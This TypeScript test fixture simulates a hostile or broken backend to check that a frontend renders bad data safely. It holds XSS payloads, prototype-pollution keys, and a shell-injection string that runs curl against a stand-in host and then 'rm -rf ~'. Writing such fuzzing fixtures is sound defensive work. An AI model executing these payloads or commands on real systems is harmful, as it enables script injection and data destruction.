import { isObject } from '../../src/api/kinds.ts';
import type { Answers } from './answers.ts';

const mail = 'jemima.puddle@private.example.org';
const phone = '+44 7700 900123';

const texts = [
  `<img src=x onerror="window.pwned=1"> ${mail}`,
  `<script>window.pwned=1</script> ${phone}`,
  `"><svg onload=window.pwned=1> ${mail} ${phone}`,
  `javascript:window.pwned=1 // ${mail}`,
  `$(curl evil.example); rm -rf ~ #\`id\` '${mail}' && echo ${phone}`,
  `\u202Egnp.exe\u202C zero\u200Bwidth\u200Djoin\uFEFF ${mail}`,
  `{{constructor.constructor('window.pwned=1')()}} \${7*7} ${phone}`,
  `NaN undefined null Infinity [object Object] Invalid Date ${mail}`,
  `line one\r\nline two\u2028line three\u0000\u0007 ${phone}`,
  `SECRET_TOKEN=hunter2 ${mail}`,
  `${'quack'.repeat(4000)} ${mail} ${phone}`,
  `\u{1F986}${'\u0301'.repeat(300)} \uD800 ${mail}`,
];
const times = [
  '9999-12-31T23:59:59Z',
  '0001-01-01T00:00:00Z',
  '2026-02-31T25:61:61Z',
  'yesterday, call ' + phone,
  1_700_000_000,
  null,
  '',
];
const numbers = [-1, -0.5, 1e308, Number.MAX_SAFE_INTEGER + 2, 0.1 + 0.2, 'NaN', '12', null, true, [7], {}];
const flags = ['true', 1, 0, null, 'false', {}, []];
const keys = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  `<b onclick=window.pwned=1>${mail}</b>`,
  '; rm -rf ~',
  '',
];

const ISO = /^\d{4}-\d\d-\d\dT/;

/** Boxes within boxes, deep enough to trouble whoever walks them by recursion without a care. */
function boxes(depth: number): unknown {
  let box: unknown = texts[0];
  for (let n = 0; n < depth; n += 1) box = n % 2 ? [box] : { box };
  return box;
}

/** Sets an own key, `__proto__` too, which an assignment would take for the prototype. */
const own = (on: object, key: string, value: unknown): void =>
  void Object.defineProperty(on, key, { value, enumerable: true, configurable: true, writable: true });

/**
 * The answers of a backend that means harm, or is merely broken. A third of the values stay good, so that
 * cards still render; which ones, and what the others become, changes every 30 s.
 * @param at ms UTC
 */
export function hostile(fresh: Answers, at: number): Record<string, unknown> {
  let turn = Math.floor(at / 30_000);
  const next = (): number => (turn += 1);
  const from = (list: readonly unknown[]): unknown => list[next() % list.length];

  const spoil = (value: unknown): unknown => {
    if (Array.isArray(value)) return [...value.slice(0, 40).map(spoil), from([null, 7, texts[1], [], {}])];
    if (isObject(value)) return spoilObject(value);
    if (typeof value === 'string' && ISO.test(value)) return next() % 3 ? value : from(times);
    if (next() % 3 === 0) return value;
    if (typeof value === 'string') return from(texts);
    return typeof value === 'number' ? from(numbers) : from(flags);
  };
  const spoilObject = (value: Record<string, unknown>): Record<string, unknown> => {
    const spoilt: Record<string, unknown> = {};
    for (const [key, inner] of Object.entries(value)) own(spoilt, key, spoil(inner));
    own(spoilt, String(from(keys)), from([texts[0], { polluted: true }, 3, null]));
    return spoilt;
  };
  const answers = spoilObject(fresh);
  for (const answer of Object.values(answers)) if (isObject(answer)) own(answer, 'abyss', boxes(500));
  return answers;
}
